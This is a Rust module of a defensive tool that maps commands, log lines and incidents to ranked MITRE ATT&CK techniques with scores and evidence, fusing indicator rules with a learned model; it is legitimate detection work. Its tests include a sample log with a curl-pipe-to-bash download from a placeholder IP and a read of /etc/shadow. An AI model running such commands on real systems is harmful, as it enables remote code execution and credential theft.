//! Technique mapping: a command line, a log line or a whole incident in, ranked ATT&CK techniques
//! out, each with a score in [0, 1], its tactics and the evidence (which span of which event
//! triggered it).
//!
//! Two components are fused per parent technique:
//! - the indicator rules ([`super::indicators`]): hand-written, high precision, sub-technique
//!   specific, with the matched span and a reason;
//! - the learned model ([`model::LinearModel`], trained by `cacao-forge train mapper`, see
//!   [`train`]): broad recall over every technique it saw in training, with the tokens that pushed
//!   its score up as evidence.
//!
//! The fused score of a parent technique is `w·r + (1 − w)·p`, where `r` is the rules' noisy-or
//! score and `p` the model's probability (w = [`MapperConfig::rule_weight`]). Ranking is at
//! parent level (what both components agree on); the id shown is the sub-technique the rules
//! matched when there is one. For an incident, each event is mapped on its own and a technique's
//! score is the noisy-or of its best [`MapperConfig::events_per_technique`] event scores, so a
//! technique seen in several events ranks above one seen once, and many weak events cannot add up
//! to certainty.

pub mod eval;
pub mod features;
pub mod model;
pub mod retrieval;
pub mod train;

use super::indicators::{indicators, IndicatorHit, IndicatorSet};
use super::Catalog;
use super::{is_technique_id, parent_of};
use crate::incident::Incident;
use features::Features;
use model::LinearModel;
use retrieval::ProcedureIndex;
use serde::Serialize;
use std::collections::HashMap;
use std::sync::Arc;

/// Knobs of the mapper. The defaults are the ones the shipped figures were measured with.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct MapperConfig {
    /// Techniques returned.
    pub top_k: usize,
    /// Weight of the indicator rules against the model, in [0, 1].
    pub rule_weight: f32,
    /// Techniques scoring below this are left out of incident results (the ranked list for a
    /// single text always has `top_k` entries).
    pub min_score: f32,
    /// Event scores combined per technique for an incident.
    pub events_per_technique: usize,
    /// Events of an incident looked at; later ones are counted as skipped.
    pub max_events: usize,
    /// Evidence spans kept per technique.
    pub max_evidence: usize,
    /// Score a technique gets from being named by the alert source (Wazuh `rule.mitre.id`, ECS
    /// `threat.technique`); combined by noisy-or with what the texts show.
    pub declared_weight: f32,
    /// Share of the model's probabilities replaced by the similarity to MITRE's procedure
    /// examples, when a full bundle was loaded ([`Mapper::with_enrichment`]).
    pub procedure_weight: f32,
}

impl Default for MapperConfig {
    fn default() -> Self {
        MapperConfig {
            top_k: 5,
            rule_weight: 0.6,
            min_score: 0.2,
            events_per_technique: 3,
            max_events: 100_000,
            max_evidence: 5,
            procedure_weight: 0.2,
            declared_weight: 0.8,
        }
    }
}

/// Where a piece of evidence came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum EvidenceSource {
    /// An indicator rule matched.
    Rule,
    /// The learned model weighed this token towards the technique.
    Model,
    /// The source alert named the technique itself (Wazuh `rule.mitre.id`, ECS `threat`).
    Declared,
}

/// Why a technique was mapped: a span of one text of the incident.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Evidence {
    /// Index of the event in the incident; `None` for the title/description or a lone text.
    pub event: Option<usize>,
    /// `details` for an event, `description` for the incident's title and description, `text` for
    /// a lone text.
    pub field: String,
    /// Byte span within that field.
    pub span: (usize, usize),
    /// The text of the span.
    pub text: String,
    pub source: EvidenceSource,
    /// The rule's reason, or the model's contribution.
    pub why: String,
    /// How much this piece weighs: the rule pattern's weight, or the model's token contribution
    /// relative to the strongest one.
    pub weight: f32,
}

/// A mapped technique.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct TechniqueMatch {
    /// Sub-technique when the rules saw one, else the parent.
    pub id: String,
    pub parent: String,
    pub name: String,
    /// Tactic shortnames ("credential-access"), in matrix order.
    pub tactics: Vec<String>,
    /// In [0, 1].
    pub score: f32,
    /// The indicator rules' part of the score and the model's probability, for review.
    pub rule_score: f32,
    pub model_score: f32,
    pub evidence: Vec<Evidence>,
}

/// The mapping of a whole incident.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct IncidentMapping {
    pub techniques: Vec<TechniqueMatch>,
    /// Texts mapped (events plus the description, if any).
    pub texts_mapped: usize,
    /// Events beyond [`MapperConfig::max_events`].
    pub events_skipped: usize,
}

/// Reusable buffers for mapping many texts without allocating per text.
#[derive(Debug, Default)]
pub struct Scratch {
    features: Features,
    probs: Vec<f32>,
    buckets: Vec<u32>,
    rule: Vec<f32>,
    order: Vec<u32>,
    retrieval_features: Features,
    /// The rule hits of the text last ranked (evidence reuses them).
    hits: Vec<IndicatorHit<'static>>,
}

/// The mapper: indicator rules + learned model + catalog for names and tactics.
#[derive(Debug, Clone)]
pub struct Mapper {
    indicators: &'static IndicatorSet,
    model: Arc<LinearModel>,
    catalog: &'static Catalog,
    class_of: HashMap<String, usize>,
    procedures: Option<Arc<ProcedureIndex>>,
    pub config: MapperConfig,
}

/// Per-parent scores of one text, before names and evidence are attached.
#[derive(Debug, Clone, PartialEq)]
pub struct ParentScore {
    pub parent: String,
    pub score: f32,
    pub rule: f32,
    pub model: f32,
    /// The best-scoring sub-technique the rules matched, if any.
    pub sub: Option<String>,
}

impl Mapper {
    /// The shipped mapper: embedded rules, model and catalog.
    pub fn embedded() -> Mapper {
        Mapper::new(indicators(), LinearModel::embedded(), Catalog::embedded(), MapperConfig::default())
    }

    /// A mapper over the given parts (cheap to clone: the parts are shared).
    pub fn new(
        indicators: &'static IndicatorSet,
        model: Arc<LinearModel>,
        catalog: &'static Catalog,
        config: MapperConfig,
    ) -> Mapper {
        let class_of = model.classes().iter().enumerate().map(|(i, c)| (c.clone(), i)).collect();
        Mapper { indicators, model, catalog, class_of, procedures: None, config }
    }

    /// The same mapper with another model (one loaded from a directory, or just trained).
    pub fn with_model(self, model: LinearModel) -> Mapper {
        let mut mapper = Mapper::new(self.indicators, Arc::new(model), self.catalog, self.config);
        mapper.procedures = self.procedures;
        mapper
    }

    /// Adds run-time enrichment from a full local bundle: MITRE's descriptions and procedure
    /// examples, indexed with the model's features (see [`retrieval`]).
    pub fn with_enrichment(mut self, enrichment: &super::Enrichment) -> Mapper {
        let ids: Vec<String> = self.catalog.techniques().iter().map(|t| t.id.clone()).collect();
        self.procedures = Some(Arc::new(ProcedureIndex::build(enrichment, *self.model.features(), &ids)));
        self
    }

    /// Whether a procedure index is in use.
    pub fn has_procedures(&self) -> bool {
        self.procedures.is_some()
    }

    pub fn model(&self) -> &LinearModel {
        &self.model
    }

    /// The best `limit` parent techniques for `text`, best first. Ties break on the id so the
    /// order is deterministic. Works on class indices and allocates only for what it returns: this
    /// is the hot path of mapping a stream of events.
    pub fn rank_parents(&self, text: &str, limit: usize, scratch: &mut Scratch) -> Vec<ParentScore> {
        let w = self.config.rule_weight.clamp(0.0, 1.0);
        let classes = self.model.classes();
        self.model.features().extract_into(text, &mut scratch.features);
        self.model.probabilities_into(&scratch.features, &mut scratch.probs, &mut scratch.buckets);
        if let Some(index) = &self.procedures {
            let a = self.config.procedure_weight.clamp(0.0, 1.0);
            // The index speaks the model's features unless the model was swapped after it was built.
            let features = if index.config() == self.model.features() {
                &scratch.features
            } else {
                index.config().extract_into(text, &mut scratch.retrieval_features);
                &scratch.retrieval_features
            };
            let dist = index.distribution(features, &mut scratch.buckets);
            for (c, p) in scratch.probs.iter_mut().enumerate() {
                *p = (1.0 - a) * *p + a * dist.get(classes[c].as_str()).copied().unwrap_or(0.0);
            }
        }
        scratch.rule.clear();
        scratch.rule.resize(classes.len(), 0.0);
        // Rule hits on parents the model has no class for, and the sub-techniques the rules saw.
        let mut extra: Vec<ParentScore> = Vec::new();
        let mut subs: Vec<(usize, String)> = Vec::new();
        scratch.hits = self.indicators.matches(text);
        for (id, score) in IndicatorSet::rank_hits(&scratch.hits) {
            let parent = parent_of(&id);
            match self.class_of.get(parent) {
                Some(&c) => {
                    scratch.rule[c] = scratch.rule[c].max(score);
                    if id.contains('.') && !subs.iter().any(|(sc, _)| *sc == c) {
                        subs.push((c, id.clone()));
                    }
                }
                None => match extra.iter_mut().find(|e| e.parent == parent) {
                    Some(e) => {
                        e.rule = e.rule.max(score);
                        if e.sub.is_none() && id.contains('.') {
                            e.sub = Some(id.clone());
                        }
                    }
                    None => extra.push(ParentScore {
                        parent: parent.to_string(),
                        score: 0.0,
                        rule: score,
                        model: 0.0,
                        sub: id.contains('.').then(|| id.clone()),
                    }),
                },
            }
        }
        for e in &mut extra {
            e.score = (w * e.rule).clamp(0.0, 1.0);
        }
        scratch.order.clear();
        scratch.order.extend(0..classes.len() as u32);
        let fused = |c: usize| (w * scratch.rule[c] + (1.0 - w) * scratch.probs[c]).clamp(0.0, 1.0);
        scratch.order.sort_by(|&a, &b| {
            fused(b as usize).total_cmp(&fused(a as usize)).then_with(|| classes[a as usize].cmp(&classes[b as usize]))
        });
        let mut ranked: Vec<ParentScore> = scratch
            .order
            .iter()
            .take(limit)
            .map(|&c| {
                let c = c as usize;
                ParentScore {
                    parent: classes[c].clone(),
                    score: fused(c),
                    rule: scratch.rule[c],
                    model: scratch.probs[c],
                    sub: subs.iter().find(|(sc, _)| *sc == c).map(|(_, id)| id.clone()),
                }
            })
            .collect();
        if !extra.is_empty() {
            ranked.extend(extra);
            ranked.sort_by(|a, b| b.score.total_cmp(&a.score).then_with(|| a.parent.cmp(&b.parent)));
            ranked.truncate(limit);
        }
        ranked
    }

    /// The top `config.top_k` parent ids for `text` (what `eval mapper` writes).
    pub fn top_parents(&self, text: &str, scratch: &mut Scratch) -> Vec<String> {
        self.rank_parents(text, self.config.top_k, scratch).into_iter().map(|s| s.parent).collect()
    }

    /// Maps one text (a command line, a log line, a paragraph): the top `config.top_k` techniques
    /// with evidence.
    pub fn map_text(&self, text: &str) -> Vec<TechniqueMatch> {
        let mut scratch = Scratch::default();
        let ranked = self.rank_parents(text, self.config.top_k, &mut scratch);
        ranked
            .into_iter()
            .map(|s| {
                let evidence = self.evidence(text, None, "text", &s, &scratch.hits, &scratch.features);
                self.technique_match(&s, s.score, evidence)
            })
            .collect()
    }

    /// Maps an incident: every event's details (or raw line when details are empty) and the
    /// title + description, combined per technique.
    pub fn map_incident(&self, incident: &Incident) -> IncidentMapping {
        let mut scratch = Scratch::default();
        let description = [incident.title.as_str(), incident.description.as_str()]
            .iter()
            .filter(|s| !s.trim().is_empty())
            .copied()
            .collect::<Vec<_>>()
            .join("\n");
        let mut texts: Vec<(Option<usize>, &str, &str)> = Vec::new();
        if !description.is_empty() {
            texts.push((None, "description", &description));
        }
        let looked_at = incident.events.len().min(self.config.max_events);
        for (i, event) in incident.events.iter().take(looked_at).enumerate() {
            let (field, text) =
                if event.details.trim().is_empty() { ("raw", &event.raw) } else { ("details", &event.details) };
            if !text.trim().is_empty() {
                texts.push((Some(i), field, text));
            }
        }
        let keep = self.config.events_per_technique.max(1);

        struct Acc {
            /// The best `keep` event scores, best first.
            scores: Vec<f32>,
            best: ParentScore,
            evidence: Vec<Evidence>,
        }
        let mut acc: HashMap<String, Acc> = HashMap::new();
        for &(event, field, text) in &texts {
            let ranked = self.rank_parents(text, self.config.top_k.max(5), &mut scratch);
            for s in ranked {
                if s.score < self.config.min_score {
                    break;
                }
                let a = acc.entry(s.parent.clone()).or_insert_with(|| Acc {
                    scores: Vec::new(),
                    best: s.clone(),
                    evidence: Vec::new(),
                });
                keep_best(&mut a.scores, s.score, keep);
                // Evidence is built only while there is room for it: most events of a long
                // incident add a score, not evidence.
                let room = self.config.max_evidence.saturating_sub(a.evidence.len());
                if room > 0 {
                    let evidence = self.evidence(text, event, field, &s, &scratch.hits, &scratch.features);
                    a.evidence.extend(evidence.into_iter().take(room));
                }
                if s.score > a.best.score {
                    a.best = s;
                }
            }
        }
        // Techniques the alert source declared: strong evidence of their own, combined with what
        // the texts showed.
        for (id, field) in declared_techniques(incident) {
            let parent = parent_of(&id).to_string();
            if self.catalog.technique(&parent).is_none() {
                continue;
            }
            let w = self.config.declared_weight.clamp(0.0, 1.0);
            let a = acc.entry(parent.clone()).or_insert_with(|| Acc {
                scores: Vec::new(),
                best: ParentScore { parent: parent.clone(), score: w, rule: 0.0, model: 0.0, sub: None },
                evidence: Vec::new(),
            });
            keep_best(&mut a.scores, w, keep);
            if id.contains('.') && a.best.sub.is_none() {
                a.best.sub = Some(id.clone());
            }
            if a.evidence.len() < self.config.max_evidence {
                a.evidence.insert(
                    0,
                    Evidence {
                        event: None,
                        field: field.clone(),
                        span: (0, id.len()),
                        text: id.clone(),
                        source: EvidenceSource::Declared,
                        why: format!("the alert source names {id}"),
                        weight: w,
                    },
                );
            }
        }
        let mut techniques: Vec<TechniqueMatch> = acc
            .into_values()
            .map(|a| {
                let miss: f32 = a.scores.iter().map(|s| 1.0 - s).product();
                self.technique_match(&a.best, (1.0 - miss).clamp(0.0, 1.0), a.evidence)
            })
            .collect();
        techniques.sort_by(|a, b| b.score.total_cmp(&a.score).then_with(|| a.parent.cmp(&b.parent)));
        techniques.truncate(self.config.top_k);
        IncidentMapping { techniques, texts_mapped: texts.len(), events_skipped: incident.events.len() - looked_at }
    }

    fn technique_match(&self, s: &ParentScore, score: f32, evidence: Vec<Evidence>) -> TechniqueMatch {
        let id = s.sub.clone().unwrap_or_else(|| s.parent.clone());
        let technique = self.catalog.technique(&id).or_else(|| self.catalog.technique(&s.parent));
        TechniqueMatch {
            id,
            parent: s.parent.clone(),
            name: technique.map(|t| t.name.clone()).unwrap_or_default(),
            tactics: technique.map(|t| t.tactics.clone()).unwrap_or_default(),
            score,
            rule_score: s.rule,
            model_score: s.model,
            evidence,
        }
    }

    /// Evidence for one parent in one text: the rule hits under it, then the model's strongest
    /// tokens.
    fn evidence(
        &self,
        text: &str,
        event: Option<usize>,
        field: &str,
        s: &ParentScore,
        hits: &[IndicatorHit<'_>],
        features: &Features,
    ) -> Vec<Evidence> {
        let mut out = Vec::new();
        for hit in hits {
            if parent_of(hit.technique) == s.parent {
                out.push(Evidence {
                    event,
                    field: field.to_string(),
                    span: hit.span,
                    text: text[hit.span.0..hit.span.1].to_string(),
                    source: EvidenceSource::Rule,
                    why: format!("{}: {}", hit.technique, hit.why),
                    weight: hit.weight,
                });
            }
        }
        out.sort_by(|a, b| b.weight.total_cmp(&a.weight));
        if let Some(&class) = self.class_of.get(&s.parent) {
            // `features` are those of `text`: rank_parents extracted them just before.
            let contributions = self.model.token_contributions(features, class);
            let strongest = contributions.first().map_or(1.0, |c| c.1).max(f32::MIN_POSITIVE);
            for (t, c) in contributions.into_iter().take(3) {
                let tok = features.tokens[t];
                out.push(Evidence {
                    event,
                    field: field.to_string(),
                    span: (tok.start, tok.end),
                    text: text.get(tok.start..tok.end).unwrap_or_default().to_string(),
                    source: EvidenceSource::Model,
                    why: format!("learned weight {c:+.2} towards {}", s.parent),
                    weight: c / strongest,
                });
            }
        }
        out.truncate(self.config.max_evidence);
        out
    }
}

/// Inserts `score` into `best` (sorted best first) and keeps at most `keep` scores, so a
/// technique seen in thousands of events costs a few floats, not one per event.
fn keep_best(best: &mut Vec<f32>, score: f32, keep: usize) {
    let at = best.iter().position(|&b| score > b).unwrap_or(best.len());
    if at < keep {
        best.insert(at, score);
        best.truncate(keep);
    }
}

/// Technique ids the alert source declared, with where they were found (`free.rule.mitre.id`,
/// `free.threat...`): Wazuh puts them in `rule.mitre.id`, ECS in `threat[].technique[].id` and
/// `threat[].technique[].subtechnique[].id`.
pub fn declared_techniques(incident: &Incident) -> Vec<(String, String)> {
    fn walk(v: &serde_json::Value, path: &mut String, out: &mut Vec<(String, String)>, depth: usize) {
        if depth > 8 {
            return;
        }
        match v {
            serde_json::Value::String(s) => {
                let s = s.trim();
                let is_id = is_technique_id(s);
                let under_id = path.ends_with(".id") || path.ends_with(".technique") || path.contains(".mitre");
                if is_id && under_id && !out.iter().any(|(id, _)| id == s) {
                    out.push((s.to_string(), path.clone()));
                }
            }
            serde_json::Value::Array(items) => {
                for item in items {
                    walk(item, path, out, depth + 1);
                }
            }
            serde_json::Value::Object(map) => {
                for (k, item) in map {
                    let len = path.len();
                    path.push('.');
                    path.push_str(k);
                    walk(item, path, out, depth + 1);
                    path.truncate(len);
                }
            }
            _ => {}
        }
    }
    let mut out = Vec::new();
    // A seed-004 record names its technique (part of what a generator may see).
    if let Some(id) = incident.free.get("technique_id").and_then(|v| v.as_str()).map(str::trim) {
        if is_technique_id(id) {
            out.push((id.to_string(), "free.technique_id".to_string()));
        }
    }
    for key in ["rule", "threat"] {
        if let Some(v) = incident.free.get(key) {
            let mut path = format!("free.{key}");
            walk(v, &mut path, &mut out, 0);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::incident::intake::{read, Format, IntakeOptions};

    #[test]
    fn incident_mapping_points_at_the_events_and_stays_in_range() {
        let log =
            "Nov 21 10:00:01 ws1 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/crontab -l\n\
                   Nov 21 10:00:02 ws1 bash[311]: curl -s http://203.0.113.7/x.sh | bash\n\
                   Nov 21 10:00:03 ws1 bash[311]: cat /etc/shadow > /tmp/.s\n";
        let report = read(log.as_bytes(), Format::Syslog, &IntakeOptions::default()).unwrap();
        let incident = report.incident().unwrap();
        let mapper = Mapper::embedded();
        let mapping = mapper.map_incident(incident);
        assert!(mapping.texts_mapped >= 3);
        assert_eq!(mapping.events_skipped, 0);
        assert!(!mapping.techniques.is_empty());
        for t in &mapping.techniques {
            assert!((0.0..=1.0).contains(&t.score), "{t:?}");
            assert!(t.id.starts_with(&t.parent));
            for e in &t.evidence {
                let text = match (e.event, e.field.as_str()) {
                    (Some(i), "details") => &incident.events[i].details,
                    (Some(i), "raw") => &incident.events[i].raw,
                    (None, _) => continue,
                    other => panic!("unexpected evidence place {other:?}"),
                };
                assert_eq!(&text[e.span.0..e.span.1], e.text, "span and text agree");
            }
        }
        let shadow = mapping.techniques.iter().find(|t| t.parent == "T1003").expect("/etc/shadow read maps to T1003");
        assert!(shadow.evidence.iter().any(|e| e.event == Some(2)));

        let mut limited = mapper.clone();
        limited.config.max_events = 1;
        let m = limited.map_incident(incident);
        assert_eq!(m.events_skipped, 2);
    }

    #[test]
    fn techniques_declared_by_the_alert_source_count_as_evidence() {
        let wazuh = r#"{"timestamp":"2026-11-21T10:00:00Z","rule":{"level":10,"description":"sshd: brute force trying to get access to the system","id":"5712","mitre":{"id":["T1110"],"tactic":["Credential Access"]}},"agent":{"name":"web01"},"full_log":"Nov 21 10:00:00 web01 sshd[1]: message repeated 8 times"}"#;
        let report = read(wazuh.as_bytes(), Format::Wazuh, &IntakeOptions::default()).unwrap();
        let incident = report.incident().unwrap();
        assert_eq!(declared_techniques(incident), [("T1110".to_string(), "free.rule.mitre.id".to_string())]);
        let mapping = Mapper::embedded().map_incident(incident);
        let t = mapping.techniques.iter().find(|t| t.parent == "T1110").expect("declared T1110 is mapped");
        assert!(t.score >= 0.8);
        assert_eq!(t.evidence[0].source, EvidenceSource::Declared);

        let ecs = r#"{"@timestamp":"2026-11-21T10:00:00Z","event":{"kind":"signal"},"rule":{"name":"LSASS access"},"threat":[{"framework":"MITRE ATT&CK","technique":[{"id":"T1003","name":"OS Credential Dumping","subtechnique":[{"id":"T1003.001"}]}]}],"host":{"name":"ws1"},"message":"lsass handle opened"}"#;
        let report = read(ecs.as_bytes(), Format::Ecs, &IntakeOptions::default()).unwrap();
        let ids: Vec<String> = declared_techniques(report.incident().unwrap()).into_iter().map(|d| d.0).collect();
        assert_eq!(ids, ["T1003", "T1003.001"]);
        let mapping = Mapper::embedded().map_incident(report.incident().unwrap());
        assert_eq!(mapping.techniques[0].id, "T1003.001");
    }

    #[test]
    fn rank_parents_is_complete_sorted_and_deterministic() {
        let mapper = Mapper::embedded();
        let mut scratch = Scratch::default();
        let all = mapper.rank_parents("net user /domain", usize::MAX, &mut scratch);
        assert!(all.len() >= mapper.model().classes().len());
        assert!(all.windows(2).all(|w| w[0].score >= w[1].score));
        assert_eq!(all[0].parent, "T1087", "{:?}", &all[..3]);
        let again = mapper.rank_parents("net user /domain", usize::MAX, &mut scratch);
        assert_eq!(all, again);
        assert_eq!(mapper.top_parents("", &mut scratch).len(), mapper.config.top_k);
    }
}
